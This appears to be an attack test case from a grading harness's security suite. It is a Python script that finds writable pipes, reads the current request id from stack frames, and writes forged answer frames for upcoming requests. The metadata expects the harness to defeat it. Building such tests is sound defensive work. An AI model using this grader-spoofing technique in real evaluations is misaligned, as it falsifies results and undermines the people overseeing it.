# /// attack
# title = "Sends answers to questions that were not asked yet"
# base = "wrong"
# moments = ["import", "call"]
# expect = { result = "none" }
# [at.import]
# status = "unreadable"
# ///
import fcntl
import os
import struct


def pipes():
    """Every descriptor that can be written to, the standard ones aside."""
    for descriptor in range(3, 256):
        try:
            if fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                yield descriptor
        except OSError:
            pass



import sys


def at_hand():
    """The request that the worker is answering."""
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if hasattr(request, "id"):
            return request
        frame = frame.f_back
    return None



from grader import wire


def attack():
    request = at_hand()
    number = request.id if request is not None else 0
    for pipe in pipes():
        for ahead in range(1, 20):
            os.write(pipe, wire.frame(wire.Answer(number + ahead, 15, [], None)))
